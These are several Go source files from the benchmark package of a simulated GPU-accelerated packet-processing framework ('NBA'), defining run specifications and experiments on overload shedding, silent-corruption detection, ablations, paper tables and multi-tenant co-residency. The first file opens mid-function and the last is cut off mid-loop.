				-> IPsecAES("sas=1024") -> IPsecHMAC("sas=1024") -> ToOutput();`, lbAlg), nil
	case "ids":
		return fmt.Sprintf(`
			FromInput() -> CheckIPHeader() -> LoadBalance("%s")
				-> IDSMatchAC("alert") -> IDSMatchRE("alert") -> EchoBack() -> ToOutput();`, lbAlg), nil
	default:
		return "", fmt.Errorf("bench: unknown app %q", app)
	}
}

// GeneratorFor builds the standard generator for an app and frame size.
// size <= 0 selects the synthetic-CAIDA mix.
func GeneratorFor(app string, size int, seed uint64) netio.Generator {
	if size <= 0 {
		return &gen.SyntheticCAIDA{Flows: 16384, Seed: seed}
	}
	if app == "ipv6" {
		return &gen.UDP6{FrameLen: size, Flows: 16384, Seed: seed, Dsts: ipv6Dsts()}
	}
	return &gen.UDP4{FrameLen: size, Flows: 16384, Seed: seed}
}

// ipv6Dsts returns destination addresses drawn from the standard IPv6 FIB
// (entries=65536, seed=42) so generated traffic spreads over real prefixes.
var (
	cachedIPv6Dsts []packet.IPv6Addr
	ipv6DstsOnce   sync.Once
)

func ipv6Dsts() []packet.IPv6Addr {
	// sync.Once rather than a nil check: grid points run concurrently under
	// Options.Parallelism, and the address list must be built exactly once.
	ipv6DstsOnce.Do(func() {
		routes := ipv6.RandomRoutes(65536, 256, 42)
		for i, rt := range routes {
			if rt.PLen >= 16 && rt.PLen <= 64 && i%4 == 0 {
				cachedIPv6Dsts = append(cachedIPv6Dsts, rt.Prefix)
			}
		}
	})
	return cachedIPv6Dsts
}

// RunSpec describes one system run for the harness.
type RunSpec struct {
	App           string
	LB            string  // LoadBalance parameter
	Size          int     // frame bytes; <=0 = CAIDA mix
	OfferedBps    float64 // per port
	Workers       int     // per socket; 0 = max
	CompBatch     int     // 0 = 64
	IOBatch       int     // 0 = 64
	Opts          *graph.Options
	Warmup        simtime.Time
	Duration      simtime.Time
	ALBObserve    simtime.Time
	ALBUpdate     simtime.Time
	Topology      *sysinfo.Topology
	CostModel     *sysinfo.CostModel
	Seed          uint64
	LatencySample int
	// ForceRemote emulates remote-socket memory placement (NUMA ablation).
	ForceRemote bool
	// Generator overrides the standard generator (e.g. trace replay).
	Generator netio.Generator
	// LatencyBound switches adaptive balancing to the bounded-latency
	// controller (paper §7 extension).
	LatencyBound simtime.Time
	// CaptureTx records the first N transmitted frames for pcap export.
	CaptureTx int
	// GeneratorChanges swap the traffic mix mid-run.
	GeneratorChanges []core.GeneratorChange
	// Tracer, when non-nil, records the run's structured event stream.
	Tracer *trace.Tracer
	// FaultPlan, when non-nil, injects the scripted fault timeline.
	FaultPlan *fault.Plan
	// TaskTimeout overrides the worker-side offload completion timeout
	// (0 = framework default, negative = disabled).
	TaskTimeout simtime.Time
	// Overload, when non-nil, arms the overload-control subsystem
	// (bounded device queue, backpressure, CoDel shedder, governor).
	Overload *overload.Config
	// Integrity, when non-nil, arms the silent-corruption sentinel
	// (sampled re-execution, quarantine, device escalation).
	Integrity *integrity.Config
	// Checker, when non-nil, attaches the invariant oracle to the run.
	Checker *invariant.Checker
	// Tenants, when non-empty, co-hosts several app graphs as tenants on
	// one system; App, LB, Size and Generator are then ignored (each
	// tenant carries its own graph and generator).
	Tenants []core.Tenant
	// LatentTenants are admittable mid-run by the Reconfig plan; Reconfig,
	// when non-nil, applies the scripted runtime-reconfiguration timeline
	// (requires Tenants).
	LatentTenants []core.Tenant
	Reconfig      *reconfig.Plan
}

// Execute assembles and runs one system.
func Execute(spec RunSpec) (*core.Report, error) {
	if len(spec.Tenants) > 0 {
		return ExecuteConfig("", spec)
	}
	cfgText, err := AppConfig(spec.App, spec.LB)
	if err != nil {
		return nil, err
	}
	return ExecuteConfig(cfgText, spec)
}

// ExecuteConfig runs an explicit pipeline text with the spec's workload.
func ExecuteConfig(cfgText string, spec RunSpec) (*core.Report, error) {
	if spec.Warmup == 0 {
		spec.Warmup = 5 * simtime.Millisecond
	}
	if spec.Duration == 0 {
		spec.Duration = 25 * simtime.Millisecond
	}
	generator := spec.Generator
	if generator == nil && len(spec.Tenants) == 0 {
		generator = GeneratorFor(spec.App, spec.Size, spec.Seed+1)
	}
	cfg := core.Config{
		Topology:          spec.Topology,
		CostModel:         spec.CostModel,
		GraphConfig:       cfgText,
		GraphOpts:         spec.Opts,
		WorkersPerSocket:  spec.Workers,
		Generator:         generator,
		OfferedBpsPerPort: spec.OfferedBps,
		IOBatchSize:       spec.IOBatch,
		CompBatchSize:     spec.CompBatch,
		Warmup:            spec.Warmup,
		Duration:          spec.Duration,
		Seed:              spec.Seed,
		ALBObserve:        spec.ALBObserve,
		ALBUpdate:         spec.ALBUpdate,
		LatencySample:     spec.LatencySample,
		ForceRemoteMemory: spec.ForceRemote,
		ALBLatencyBound:   spec.LatencyBound,
		CaptureTx:         spec.CaptureTx,
		GeneratorChanges:  spec.GeneratorChanges,
		Tracer:            spec.Tracer,
		FaultPlan:         spec.FaultPlan,
		TaskTimeout:       spec.TaskTimeout,
		Overload:          spec.Overload,
		Integrity:         spec.Integrity,
		Checker:           spec.Checker,
		Tenants:           spec.Tenants,
		LatentTenants:     spec.LatentTenants,
		Reconfig:          spec.Reconfig,
	}
	sys, err := core.NewSystem(cfg)
	if err != nil {
		return nil, err
	}
	rep, err := sys.Run()
	if err == nil {
		simAccount.Add(int64(spec.Warmup + spec.Duration))
	}
	return rep, err
}

// simAccount accumulates the virtual time simulated by Execute/ExecuteConfig
// since the last ResetSimSeconds, atomically so concurrent grid points can
// add to it. It feeds the sim-seconds-per-second trajectory metric reported
// by the repository benchmarks and the perf snapshot (sums are commutative,
// so the total stays deterministic under any parallelism).
var simAccount atomic.Int64

// ResetSimSeconds zeroes the simulated-time account.
func ResetSimSeconds() { simAccount.Store(0) }

// SimSeconds returns the virtual seconds simulated since the last reset.
func SimSeconds() float64 { return simtime.Time(simAccount.Load()).Seconds() }

// durations returns (warmup, duration) honouring Quick mode.
func (o Options) durations(warm, dur simtime.Time) (simtime.Time, simtime.Time) {
	if o.Quick {
		return warm / 5, dur / 5
	}
	return warm, dur
}

// gbpsCell formats a throughput cell.
func gbpsCell(g float64) string { return fmt.Sprintf("%7.2f", g) }
