package bench

import (
	"fmt"
	"io"

	"nba/internal/fault"
	"nba/internal/integrity"
	"nba/internal/simtime"
)

func init() {
	register(Experiment{
		ID:    "integrity",
		Title: "Silent-corruption sentinel: sampling rate vs detection latency and overhead (sec 3.4 robustness)",
		Paper: "sampled re-execution trades verification cost for detection latency; even a few percent sampling catches a corrupting device within milliseconds while full sampling bounds the quarantine leak to zero",
		Run:   runIntegrity,
	})
}

// integritySampleRates is the sweep axis: disarmed sampling (the sentinel
// observes nothing and the run pays only the arming overhead), sparse
// sampling up to full re-execution of every offloaded aggregate.
var integritySampleRates = []float64{0, 0.05, 0.25, 0.5, 1}

// IntegrityScenario is the canonical silent-corruption run shared by the
// bench experiment and its regression test: 64 B IPsec at 80% fixed offload
// while device 0 flips bits in every aggregate over a scripted window.
// corruptAt/corruptUntil locate the window on the virtual clock.
func IntegrityScenario(o Options, rate float64) (spec RunSpec, corruptAt, corruptUntil simtime.Time) {
	warm, dur := o.durations(2*simtime.Millisecond, 40*simtime.Millisecond)
	span := warm + dur
	corruptAt, corruptUntil = span/4, span/2
	spec = RunSpec{
		App: "ipsec", LB: "fixed=0.8", Size: 64, OfferedBps: offeredPerPort,
		Warmup: warm, Duration: dur, Seed: o.Seed,
		FaultPlan: fault.Corruption(corruptAt, corruptUntil, 0, 1, 0x5a),
		Integrity: &integrity.Config{SampleRate: rate},
	}
	return spec, corruptAt, corruptUntil
}

// runIntegrity sweeps the sentinel sampling rate. For each rate it runs a
// corruption-free twin (throughput overhead of the sentinel itself, against
// the rate-0 baseline) and the corrupted scenario (detection latency from
// the window opening to the first mismatch, quarantine volume, escalation).
func runIntegrity(o Options, w io.Writer) error {
	// Slots 2i are clean twins, 2i+1 the corrupted runs, all independent.
	jobs := make([]gridJob, 0, 2*len(integritySampleRates))
	var corruptAt, corruptUntil simtime.Time
	for _, rate := range integritySampleRates {
		spec, at, until := IntegrityScenario(o, rate)
		corruptAt, corruptUntil = at, until
		clean := spec
		clean.FaultPlan = nil
		jobs = append(jobs, gridJob{spec: clean}, gridJob{spec: spec})
	}
	reps, err := runGrid(o, jobs)
	if err != nil {
		return err
	}

	fmt.Fprintf(w, "IPsec 64B fixed=0.8, device 0 corrupts every aggregate (pattern 0x5a) from %v to %v\n", corruptAt, corruptUntil)
	fmt.Fprintf(w, "clean twin: same run without the corruption window; overhead is vs the rate-0 clean run\n\n")
	fmt.Fprintf(w, "%-8s %-12s %-10s %-12s %-12s %-12s %-10s %-8s\n",
		"rate", "clean Gbps", "overhead", "corrupt Gbps", "detect lat", "quarantined", "detected", "checks")

	baseline := reps[0].TxGbps // rate-0 clean run
	for i, rate := range integritySampleRates {
		clean, corrupted := reps[2*i], reps[2*i+1]
		overhead := "-"
		if baseline > 0 {
			overhead = fmt.Sprintf("%.2f%%", 100*(baseline-clean.TxGbps)/baseline)
		}
		latency := "-"
		if corrupted.CorruptionDetected > 0 {
			latency = fmt.Sprint(corrupted.FirstMismatchAt - corruptAt)
		}
		fmt.Fprintf(w, "%-8g %-12s %-10s %-12s %-12s %-12d %-10d %-8d\n",
			rate, gbpsCell(clean.TxGbps), overhead, gbpsCell(corrupted.TxGbps),
			latency, corrupted.QuarantinedPackets, corrupted.CorruptionDetected,
			corrupted.IntegrityChecks)
	}

	full := reps[2*len(integritySampleRates)-1]
	fmt.Fprintf(w, "\nfull sampling: %d checks, %d mismatches, %d packets quarantined (zero corrupt frames transmitted)\n",
		full.IntegrityChecks, full.CorruptionDetected, full.QuarantinedPackets)
	for dev, score := range full.DeviceCorruptionScores {
		if score > 0 {
			fmt.Fprintf(w, "device %d final corruption score: %.3f\n", dev, score)
		}
	}
	return nil
}
