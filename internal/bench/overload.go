package bench

import (
	"fmt"
	"io"

	"nba/internal/core"
	"nba/internal/invariant"
	"nba/internal/overload"
	"nba/internal/par"
	"nba/internal/simtime"
	"nba/internal/sysinfo"
	"nba/internal/trace"
)

func init() {
	register(Experiment{
		ID:    "overload",
		Title: "Graceful degradation under sustained overload (backpressure + shedding)",
		Paper: "Robustness extension: bounded interior queues, admission control and deterministic CoDel shedding keep the tail latency of admitted packets flat as offered load passes capacity, trading goodput for latency instead of letting backlog grow without bound",
		Run:   runOverload,
	})
}

// overloadBaseBps is the 1.0x offered load per port for the sweep, chosen so
// the small single-socket machine saturates between 1.0x and 1.5x: the low
// multipliers establish the uncongested baseline, the high ones drive the
// shedder and governor.
const overloadBaseBps = 2e9

// overloadMults is the offered-load sweep, in multiples of overloadBaseBps.
var overloadMults = []float64{0.5, 0.8, 1, 1.5, 2, 3}

// overloadSpec is one arm of the sweep: IPsec 64 B under the static
// fixed=0.8 balancer (so every latency change is the overload machinery's,
// not the ALB's) on a 4-core, 2-port, 1-GPU socket.
func overloadSpec(o Options, mult float64, shed bool) RunSpec {
	warm, dur := o.durations(2*simtime.Millisecond, 20*simtime.Millisecond)
	spec := RunSpec{
		App: "ipsec", LB: "fixed=0.8", Size: 64,
		OfferedBps: overloadBaseBps * mult,
		Warmup:     warm, Duration: dur, Seed: o.Seed,
		Topology:      sysinfo.SingleSocketTopology(4, 2),
		LatencySample: 4,
	}
	if shed {
		// CoDel's convergence clock must fit the run: the default 500 us
		// interval is sized for long-lived service, while this sweep measures
		// tens of milliseconds. A 100 us interval lets the drop rate ramp to
		// the 2x excess within the window; every other knob keeps its default.
		spec.Overload = &overload.Config{
			CoDelTarget:   50 * simtime.Microsecond,
			CoDelInterval: 100 * simtime.Microsecond,
		}
		spec.Checker = invariant.New()
	}
	return spec
}

// runOverload sweeps offered load from 0.5x to 3x of the base rate with the
// overload subsystem armed and disarmed, prints both trajectories, verifies
// the armed runs against the invariant oracle, checks the tail-latency bound
// against the 0.8x baseline and cross-checks determinism of the shedding
// decisions by digesting the 2x armed run twice.
func runOverload(o Options, w io.Writer) error {
	type row struct {
		mult    float64
		on, off *core.Report
		onViol  int
	}
	// Flatten the (multiplier, arm) grid: even slots armed, odd slots
	// disarmed. Each armed spec carries its own invariant.Checker, so the
	// violation counts stay per-run even when the runs execute concurrently.
	specs := make([]RunSpec, 0, 2*len(overloadMults))
	for _, m := range overloadMults {
		specs = append(specs, overloadSpec(o, m, true), overloadSpec(o, m, false))
	}
	reps, err := par.MapErr(len(specs), o.workers(), func(i int) (*core.Report, error) {
		return Execute(specs[i])
	})
	if err != nil {
		return err
	}
	rows := make([]row, 0, len(overloadMults))
	for i, m := range overloadMults {
		rows = append(rows, row{mult: m, on: reps[2*i], off: reps[2*i+1],
			onViol: len(specs[2*i].Checker.Violations())})
	}

	fmt.Fprintf(w, "IPsec 64B fixed=0.8, 1 socket / 2 ports, base load %.1f Gbps per port\n\n", overloadBaseBps/1e9)
	fmt.Fprintf(w, "%-6s %-5s %-8s %-10s %-9s %-8s %-8s %-7s %-7s %s\n",
		"load", "shed", "goodput", "p99.9", "rx-drop", "shed-pkt", "rejects", "devHWM", "rxHWM", "governor")
	for _, r := range rows {
		for _, arm := range []struct {
			name string
			rep  *core.Report
		}{{"on", r.on}, {"off", r.off}} {
			fmt.Fprintf(w, "%-6s %-5s %-8s %-10v %-9d %-8d %-8d %-7d %-7d %v\n",
				fmt.Sprintf("%.1fx", r.mult), arm.name, gbpsCell(arm.rep.TxGbps),
				arm.rep.Latency.Percentile(99.9), arm.rep.RxDropped, arm.rep.ShedPackets,
				arm.rep.RejectedTasks, arm.rep.DeviceQueueHWM, arm.rep.RxBacklogHWM,
				arm.rep.OverloadPeak)
		}
	}

	// Tail-latency bound: with shedding, p99.9 at 2x load stays within 10x
	// of the uncongested 0.8x baseline.
	var base, at2 row
	for _, r := range rows {
		if r.mult == 0.8 {
			base = r
		}
		if r.mult == 2 {
			at2 = r
		}
	}
	basePk := base.on.Latency.Percentile(99.9)
	onPk := at2.on.Latency.Percentile(99.9)
	offPk := at2.off.Latency.Percentile(99.9)
	ratio := float64(onPk) / float64(basePk)
	fmt.Fprintf(w, "\np99.9 at 2.0x: %v shed-on vs %v shed-off (0.8x baseline %v)\n", onPk, offPk, basePk)
	fmt.Fprintf(w, "shed-on tail inflation over baseline: %.1fx (bound 10x: %s)\n", ratio, passFail(ratio <= 10))

	viol := 0
	for _, r := range rows {
		viol += r.onViol
	}
	fmt.Fprintf(w, "invariant violations across armed runs (queue.bound, conservation-with-shed, ...): %d\n", viol)

	// Determinism: the 2x armed run — the one making the most shedding
	// decisions — must produce the identical event stream twice. The doubled
	// runs are themselves independent cases, so they too run through par.
	digests, err := par.MapErr(2, o.workers(), func(int) (string, error) {
		spec := overloadSpec(o, 2, true)
		spec.Tracer = trace.New(trace.Options{Capacity: 1, CheckpointInterval: -1})
		if _, err := Execute(spec); err != nil {
			return "", err
		}
		return spec.Tracer.Digest(), nil
	})
	if err != nil {
		return err
	}
	d1, d2 := digests[0], digests[1]
	fmt.Fprintf(w, "2.0x armed run digest twice: %.12s vs %.12s (%s)\n", d1, d2, passFail(d1 == d2))
	return nil
}

func passFail(ok bool) string {
	if ok {
		return "PASS"
	}
	return "FAIL"
}
