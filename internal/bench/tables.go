package bench

import (
	"fmt"
	"io"

	"nba/internal/core"
	"nba/internal/graph"
	"nba/internal/simtime"
	"nba/internal/sysinfo"
)

func init() {
	register(Experiment{
		ID:    "tab1",
		Title: "Framework feature comparison (Table 1)",
		Paper: "NBA is the only framework with full computation batching, declarative offloading and adaptive load balancing",
		Run:   runTab1,
	})
	register(Experiment{
		ID:    "tab3",
		Title: "Hardware configuration (Table 3, simulated)",
		Paper: "2x Xeon E5-2670, 32 GB RAM, 8x10GbE, 2x GTX 680",
		Run:   runTab3,
	})
	register(Experiment{
		ID:    "ablation-datablock",
		Title: "Ablation: datablock sharing / offload chaining (sec 3.3)",
		Paper: "the paper projects 10-30% overhead without datablock-based copy reuse",
		Run:   runAblationDatablock,
	})
	register(Experiment{
		ID:    "ablation-aggsize",
		Title: "Ablation: offload aggregation size (sec 3.3/4.6)",
		Paper: "32 batches maximises throughput; latency is sensitive to the aggregate size",
		Run:   runAblationAggSize,
	})
	register(Experiment{
		ID:    "ablation-phi",
		Title: "Extension: Xeon-Phi-like accelerator behind the same shim (sec 7)",
		Paper: "future work in the paper; different optimal points expected per accelerator",
		Run:   runAblationPhi,
	})
	register(Experiment{
		ID:    "ablation-numa",
		Title: "Ablation: remote-socket memory placement (sec 2)",
		Paper: "remote memory reduces throughput by 20-30%",
		Run:   runAblationNUMA,
	})
	register(Experiment{
		ID:    "ablation-boundedlat",
		Title: "Extension: throughput under a latency bound (sec 7)",
		Paper: "future work in the paper: maximise throughput with bounded latency",
		Run:   runAblationBoundedLatency,
	})
}

func runTab1(o Options, w io.Writer) error {
	rows := []struct{ criterion, click, rb, ps, dc, snap, nba string }{
		{"IO batching", "netmap", "yes", "yes", "yes", "yes", "yes"},
		{"Modular interface", "yes", "yes", "no", "yes", "yes", "yes"},
		{"Computation batching", "no", "no", "partial", "manual", "partial", "yes"},
		{"Declarative offloading", "no", "no", "monolithic", "no", "procedural", "yes"},
		{"Adaptive load balancing", "no", "no", "no", "no", "no", "yes"},
	}
	fmt.Fprintf(w, "%-26s %-10s %-12s %-14s %-12s %-12s %-6s\n",
		"criteria", "Click", "RouteBricks", "PacketShader", "DoubleClick", "Snap", "NBA")
	for _, r := range rows {
		fmt.Fprintf(w, "%-26s %-10s %-12s %-14s %-12s %-12s %-6s\n",
			r.criterion, r.click, r.rb, r.ps, r.dc, r.snap, r.nba)
	}
	return nil
}

func runTab3(o Options, w io.Writer) error {
	t := sysinfo.DefaultTopology()
	fmt.Fprintf(w, "%-10s %d x %d cores @ %.1f GHz (simulated Xeon E5-2670)\n",
		"CPU", t.Sockets, t.CoresPerSocket, t.CoreFreqHz/1e9)
	var total float64
	for _, p := range t.Ports {
		total += p.LineRateBps
	}
	fmt.Fprintf(w, "%-10s %d x 10 GbE ports (total %.0f Gbps)\n", "NIC", len(t.Ports), total/1e9)
	for _, d := range t.Devices {
		fmt.Fprintf(w, "%-10s %s on socket %d (%d cores, kind %v)\n", "GPU", d.Name, d.Socket, d.Cores, d.Kind)
	}
	fmt.Fprintf(w, "%-10s %d workers + 1 device thread per socket\n", "Threads", t.MaxWorkersPerSocket())
	fmt.Fprintf(w, "%-10s %d packets per HW RX queue\n", "RX queues", t.RxQueueCapacity)
	return nil
}

func runAblationDatablock(o Options, w io.Writer) error {
	warm, dur := o.durations(5*simtime.Millisecond, 20*simtime.Millisecond)
	fmt.Fprintf(w, "%-14s %-10s %-10s %-14s %-14s\n", "size", "chained", "split", "loss(%)", "h2d ratio")
	for _, size := range []int{64, 256, 1024} {
		on := graph.DefaultOptions()
		off := graph.Options{BranchPrediction: true, OffloadChaining: false}
		base := RunSpec{App: "ipsec", LB: "gpu", Size: size, OfferedBps: offeredPerPort,
			Warmup: warm, Duration: dur, Seed: o.Seed}
		specOn := base
		specOn.Opts = &on
		rOn, err := Execute(specOn)
		if err != nil {
			return err
		}
		specOff := base
		specOff.Opts = &off
		rOff, err := Execute(specOff)
		if err != nil {
			return err
		}
		loss := (1 - rOff.TxGbps/rOn.TxGbps) * 100
		// H2D bytes per packet actually delivered: without chaining, AES and
		// HMAC each upload the frame, doubling the copies per packet.
		perPkt := func(r *core.Report) float64 {
			var bytes uint64
			for _, d := range r.DeviceStats {
				bytes += d.H2DBytes
			}
			delivered := r.TxPPS * r.Measured.Seconds()
			if delivered <= 0 {
				return 0
			}
			return float64(bytes) / delivered
		}
		ratio := 0.0
		if on := perPkt(rOn); on > 0 {
			ratio = perPkt(rOff) / on
		}
		fmt.Fprintf(w, "%-14d %s %s %10.1f %14.2fx\n", size,
			gbpsCell(rOn.TxGbps), gbpsCell(rOff.TxGbps), loss, ratio)
	}
	return nil
}

func runAblationAggSize(o Options, w io.Writer) error {
	warm, dur := o.durations(5*simtime.Millisecond, 25*simtime.Millisecond)
	fmt.Fprintf(w, "%-12s %-10s %-12s %-12s\n", "agg batches", "Gbps", "avg lat(us)", "p99(us)")
	for _, agg := range []int{4, 8, 16, 32, 64} {
		cm := cloneCostModel()
		cm.MaxAggBatches = agg
		spec := RunSpec{App: "ipsec", LB: "gpu", Size: 64, OfferedBps: offeredPerPort,
			CostModel: cm, Warmup: warm, Duration: dur, Seed: o.Seed}
		r, err := Execute(spec)
		if err != nil {
			return err
		}
		fmt.Fprintf(w, "%-12d %s %12.1f %12.1f\n", agg, gbpsCell(r.TxGbps),
			r.Latency.Mean().Micros(), r.Latency.Percentile(99).Micros())
	}
	return nil
}

func runAblationPhi(o Options, w io.Writer) error {
	warm, dur := o.durations(5*simtime.Millisecond, 20*simtime.Millisecond)
	fmt.Fprintf(w, "%-10s %-8s %-12s %-12s\n", "app", "size", "gpu", "phi-like")
	for _, c := range []struct {
		app  string
		size int
	}{{"ipsec", 64}, {"ipsec", 1024}, {"ids", 64}, {"ipv6", 64}} {
		base := RunSpec{App: c.app, LB: "gpu", Size: c.size, OfferedBps: offeredPerPort,
			Warmup: warm, Duration: dur, Seed: o.Seed}
		rGPU, err := Execute(base)
		if err != nil {
			return err
		}
		phiTop := sysinfo.DefaultTopology()
		for i := range phiTop.Devices {
			phiTop.Devices[i].Kind = sysinfo.DevicePhi
			phiTop.Devices[i].Name = fmt.Sprintf("phi%d", i)
			phiTop.Devices[i].Cores = 61
		}
		specPhi := base
		specPhi.Topology = phiTop
		rPhi, err := Execute(specPhi)
		if err != nil {
			return err
		}
		fmt.Fprintf(w, "%-10s %-8d %s   %s\n", c.app, c.size, gbpsCell(rGPU.TxGbps), gbpsCell(rPhi.TxGbps))
	}
	return nil
}

func runAblationNUMA(o Options, w io.Writer) error {
	warm, dur := o.durations(5*simtime.Millisecond, 20*simtime.Millisecond)
	fmt.Fprintf(w, "%-10s %-12s %-12s %-10s\n", "app", "local", "remote", "loss(%)")
	for _, app := range []string{"ipv4", "ipv6", "ipsec"} {
		mk := func(remote bool) (float64, error) {
			spec := RunSpec{App: app, LB: "cpu", Size: 64, OfferedBps: offeredPerPort,
				Warmup: warm, Duration: dur, Seed: o.Seed, ForceRemote: remote}
			r, err := Execute(spec)
			if err != nil {
				return 0, err
			}
			return r.TxGbps, nil
		}
		local, err := mk(false)
		if err != nil {
			return err
		}
		remote, err := mk(true)
		if err != nil {
			return err
		}
		fmt.Fprintf(w, "%-10s %s %s %10.1f\n", app, gbpsCell(local), gbpsCell(remote), (1-remote/local)*100)
	}
	return nil
}

func runAblationBoundedLatency(o Options, w io.Writer) error {
	// Sweep the offload fraction for IPsec 64 B and report the best
	// throughput achievable under several p99 latency bounds — the paper's
	// §7 "throughput maximization with bounded latency" problem.
	warm, dur := o.durations(5*simtime.Millisecond, 25*simtime.Millisecond)
	type point struct {
		frac float64
		gbps float64
		p99  float64
	}
	var pts []point
	for frac := 0; frac <= 100; frac += 10 {
		// Offered load sits between CPU-only (~8 Gbps) and GPU-only
		// (~14 Gbps) capacity, so tight latency bounds (CPU territory) and
		// high throughput (GPU territory) genuinely conflict.
		spec := RunSpec{App: "ipsec", LB: fmt.Sprintf("fixed=%.2f", float64(frac)/100),
			Size: 64, OfferedBps: 12e9 / 8, Warmup: warm, Duration: dur, Seed: o.Seed}
		r, err := Execute(spec)
		if err != nil {
			return err
		}
		pts = append(pts, point{float64(frac) / 100, r.TxGbps, r.Latency.Percentile(99).Micros()})
	}
	fmt.Fprintf(w, "%-16s %-10s %-10s\n", "p99 bound(us)", "best Gbps", "best w")
	for _, bound := range []float64{100, 250, 500, 1000, 5000, 1e9} {
		bestG, bestW := 0.0, -1.0
		for _, p := range pts {
			if p.p99 <= bound && p.gbps > bestG {
				bestG, bestW = p.gbps, p.frac
			}
		}
		label := fmt.Sprintf("%.0f", bound)
		if bound >= 1e9 {
			label = "unbounded"
		}
		if bestW < 0 {
			fmt.Fprintf(w, "%-16s %-10s %-10s\n", label, "-", "none feasible")
			continue
		}
		fmt.Fprintf(w, "%-16s %s %10.2f\n", label, gbpsCell(bestG), bestW)
	}

	// Live bounded-latency controller (lb.Controller with Bound set) at a
	// light load where the bound is achievable by staying on the CPU.
	fmt.Fprintf(w, "\nlive bounded controller (0.5 Gbps/port; p99 includes the convergence transient):\n")
	fmt.Fprintf(w, "%-16s %-10s %-14s %-8s\n", "p99 bound(us)", "Gbps", "p99-all(us)", "finalW")
	for _, bound := range []simtime.Time{100 * simtime.Microsecond, 0} {
		spec := RunSpec{App: "ipsec", LB: "adaptive", Size: 64, OfferedBps: 0.5e9,
			Warmup: 5 * simtime.Millisecond, Duration: 100 * simtime.Millisecond,
			ALBObserve: 250 * simtime.Microsecond, ALBUpdate: simtime.Millisecond,
			LatencyBound: bound, Seed: o.Seed}
		if o.Quick {
			spec.Duration = 40 * simtime.Millisecond
		}
		r, err := Execute(spec)
		if err != nil {
			return err
		}
		label := "unbounded"
		if bound > 0 {
			label = fmt.Sprintf("%.0f", bound.Micros())
		}
		fmt.Fprintf(w, "%-16s %s %12.1f %7.2f\n", label,
			gbpsCell(r.TxGbps), r.Latency.Percentile(99).Micros(), r.FinalW)
	}
	return nil
}
