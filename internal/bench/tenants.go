package bench

import (
	"fmt"
	"io"

	"nba/internal/core"
	"nba/internal/invariant"
	"nba/internal/overload"
	"nba/internal/par"
	"nba/internal/simtime"
	"nba/internal/sysinfo"
)

func init() {
	register(Experiment{
		ID:    "tenants",
		Title: "Multi-tenant co-residency: scaling 1-4 app graphs and noisy-neighbour isolation",
		Paper: "Consolidation extension beyond the paper (the Pythia direction): several NBA app graphs share one machine's workers, NIC queues and GPU under share-weighted scheduling; the per-tenant governor (trim -> bias -> shed) is expected to contain a misbehaving co-tenant's latency damage to that tenant",
		Run:   runTenants,
	})
}

// tenantBaseBps is the per-port offered load the tenant mixes share.
const tenantBaseBps = 2e9

// tenantApps orders the standard apps by co-residency mix: mixes of size n
// take the first n entries.
var tenantApps = []string{"ipv4", "ipsec", "ipv6", "ids"}

// tenantsFor builds an equal-share mix of the first n standard apps.
func tenantsFor(n int, seed uint64) ([]core.Tenant, error) {
	out := make([]core.Tenant, 0, n)
	for i := 0; i < n; i++ {
		app := tenantApps[i]
		cfgText, err := AppConfig(app, "adaptive")
		if err != nil {
			return nil, err
		}
		out = append(out, core.Tenant{
			Name:        app,
			GraphConfig: cfgText,
			Share:       1,
			Generator:   GeneratorFor(app, 64, seed+1+uint64(i)),
		})
	}
	return out, nil
}

// tenantSpec is one co-residency run on the canonical small socket.
func tenantSpec(o Options, tenants []core.Tenant, armed bool) RunSpec {
	warm, dur := o.durations(2*simtime.Millisecond, 20*simtime.Millisecond)
	spec := RunSpec{
		Tenants:    tenants,
		OfferedBps: tenantBaseBps,
		Warmup:     warm, Duration: dur, Seed: o.Seed,
		Topology:      sysinfo.SingleSocketTopology(4, 2),
		LatencySample: 4,
		Checker:       invariant.New(),
	}
	if armed {
		spec.Overload = overload.Defaults()
	}
	return spec
}

// runTenants reports two things. First, the consolidation sweep: the same
// offered load split across 1 to 4 co-resident app graphs, with per-tenant
// throughput and the per-tenant conservation verdict. Second, the
// noisy-neighbour experiment: an ipv4 victim sharing the socket with an
// ipsec aggressor offered 2x its fair share, with the victim's p99.9
// compared between a disarmed run and one with the per-tenant governor
// armed — the governor must confine the damage to the aggressor.
func runTenants(o Options, w io.Writer) error {
	// Part 1: tenant-count sweep, all grid points independent.
	mixes := make([][]core.Tenant, 0, 4)
	for n := 1; n <= 4; n++ {
		ts, err := tenantsFor(n, o.Seed)
		if err != nil {
			return err
		}
		mixes = append(mixes, ts)
	}
	specs := make([]RunSpec, len(mixes))
	for i := range mixes {
		specs[i] = tenantSpec(o, mixes[i], true)
	}
	reps, err := par.MapErr(len(specs), o.workers(), func(i int) (*core.Report, error) {
		return Execute(specs[i])
	})
	if err != nil {
		return err
	}

	fmt.Fprintf(w, "equal-share tenant mixes, %.1f Gbps per port offered in total, governor armed\n\n", tenantBaseBps/1e9)
	fmt.Fprintf(w, "%-8s %-9s %-9s  per-tenant Gbps (conservation)\n", "tenants", "aggGbps", "p99.9")
	for i, rep := range reps {
		cells := ""
		for _, tr := range rep.Tenants {
			ok := tr.RxDelivered == tr.TxPackets+tr.GraphDrops+tr.ShedPackets
			cells += fmt.Sprintf("  %s %.2f (%s)", tr.Name, tr.TxGbps, passFail(ok))
		}
		viol := len(specs[i].Checker.Violations())
		if viol > 0 {
			cells += fmt.Sprintf("  [%d violation(s)]", viol)
		}
		fmt.Fprintf(w, "%-8d %-9s %-9v%s\n", len(rep.Tenants), gbpsCell(rep.TxGbps),
			rep.Latency.Percentile(99.9), cells)
	}

	// Part 2: noisy neighbour. The aggressor's RateScale 2 offers it twice
	// its fair share, saturating the shared socket.
	noisy := func(armed bool) (RunSpec, error) {
		ts, err := tenantsFor(2, o.Seed) // ipv4 victim + ipsec aggressor
		if err != nil {
			return RunSpec{}, err
		}
		ts[1].RateScale = 2
		return tenantSpec(o, ts, armed), nil
	}
	armedSpec, err := noisy(true)
	if err != nil {
		return err
	}
	disarmedSpec, err := noisy(false)
	if err != nil {
		return err
	}
	nspecs := []RunSpec{armedSpec, disarmedSpec}
	nreps, err := par.MapErr(2, o.workers(), func(i int) (*core.Report, error) {
		return Execute(nspecs[i])
	})
	if err != nil {
		return err
	}
	on, off := nreps[0], nreps[1]

	fmt.Fprintf(w, "\nnoisy neighbour: ipv4 victim + ipsec aggressor at 2x fair share\n")
	fmt.Fprintf(w, "%-9s %-8s  victim(ipv4)          aggressor(ipsec)\n", "governor", "aggGbps")
	for _, r := range []struct {
		name string
		rep  *core.Report
	}{{"armed", on}, {"off", off}} {
		v, a := r.rep.Tenants[0], r.rep.Tenants[1]
